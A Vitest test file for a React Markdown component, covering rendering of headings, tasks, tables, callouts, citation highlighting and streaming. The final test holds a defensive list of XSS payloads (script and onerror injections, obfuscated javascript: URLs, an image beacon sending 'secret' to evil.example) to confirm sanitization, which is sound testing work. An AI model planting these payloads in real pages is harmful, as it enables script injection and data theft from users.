import { cleanup, render, screen } from '@testing-library/react'
import { expect, test } from 'vitest'
import { Markdown } from '#app/ui/markdown.tsx'

test('a note reads as headings, lists, tasks, tables, code and callouts', () => {
  const source =
    '# Cells\n\n- [x] read\n- [ ] ask\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n```js\nlet a\n```\n\n> [!tip]\n> Rest\n\n[own](/dashboard) [out](https://example.org)\n'
  render(<Markdown source={source} headingOffset={1} />)
  expect(screen.getByRole('heading', { level: 2, name: 'Cells' }).id).toBe('cells')
  expect(screen.getByRole<HTMLInputElement>('checkbox', { name: 'Done' }).checked).toBe(true)
  expect(screen.getByRole('region', { name: 'Table: a, b' }).querySelectorAll('td')).toHaveLength(2)
  expect(screen.getByRole('button', { name: 'Copy code to clipboard' })).toBeDefined()
  expect(screen.getByRole('note').textContent).toContain('Tip')
  expect(screen.getByRole('link', { name: 'out' }).getAttribute('rel')).toContain('noopener')
  expect(screen.getByRole('link', { name: 'own' }).hasAttribute('rel')).toBe(false)
})

test('what is cited is lit, letter by letter', () => {
  const source = '# Title\n\nFirst words. **Second** sentence.\n'
  const quote = 'words. **Second** sen'
  const start = source.indexOf(quote)
  const { container } = render(<Markdown source={source} lit={{ start, end: start + quote.length }} />)
  const marks = [...container.querySelectorAll('mark')].map((mark) => mark.textContent)
  expect(marks).toEqual(['words. ', 'Second', ' sen'])
})

test('while text streams in, blocks that are closed keep their elements', () => {
  const { container, rerender } = render(<Markdown source={'# One\n\nfirst\n\nsec'} />)
  const before = [...container.querySelectorAll('.prose > *')]
  rerender(<Markdown source={'# One\n\nfirst\n\nsecond and more\n\nthird'} />)
  const after = [...container.querySelectorAll('.prose > *')]
  expect(after).toHaveLength(4)
  expect(after.slice(0, 2)).toEqual(before.slice(0, 2))
  expect(after[2]?.textContent).toBe('second and more')
})

test('nothing a text holds can run, load or lead somewhere unseen', () => {
  const payloads = [
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '<svg/onload=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '[a](javascript:alert(1))',
    '[a](JaVaScRiPt&colon;alert(1))',
    '[a](java&Tab;script:alert(1))',
    '[a](&#1;javascript:alert(1))',
    '[a](data:text/html;base64,PHNjcmlwdD4=)',
    '[a](vbscript:x)',
    '![a](javascript:alert(1))',
    '![a](https://evil.example/p.png?data=secret)',
    '![a][r]\n\n[r]: data:text/html,x',
    '<javascript:alert(1)>',
    '[a](//evil.example)',
    '[a](/\\evil.example)',
    '`<img src=x onerror=alert(1)>`',
    '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
    '| <img src=x onerror=alert(1)> |\n| - |\n| [a](javascript:1) |',
    '> [!note] <img src=x onerror=alert(1)>\n> <style>*{}</style>',
    '# <a href="javascript:alert(1)">x</a>',
    '$<img src=x onerror=alert(1)>$',
    '[a](https://example.org "onmouseover=alert(1)")',
    '<a href="javascript:alert(1)">a</a>',
    'a\u0000b <b\u0000 onclick=alert(1)>',
  ]
  for (const payload of payloads) {
    for (let end = 1; end <= payload.length; end++) {
      const { container } = render(<Markdown source={payload.slice(0, end)} />)
      expect(
        container.querySelector('script,img,svg[onload],iframe,style,object,embed,form,base,link'),
        payload,
      ).toBeNull()
      for (const element of container.querySelectorAll('*')) {
        for (const { name } of element.attributes) expect(name.startsWith('on'), payload).toBe(false)
        const href = element.getAttribute('href')
        if (href !== null) expect(href, payload).toMatch(/^(https?:\/\/|mailto:|#|\/(?![/\\]))/i)
      }
      cleanup()
    }
  }
})
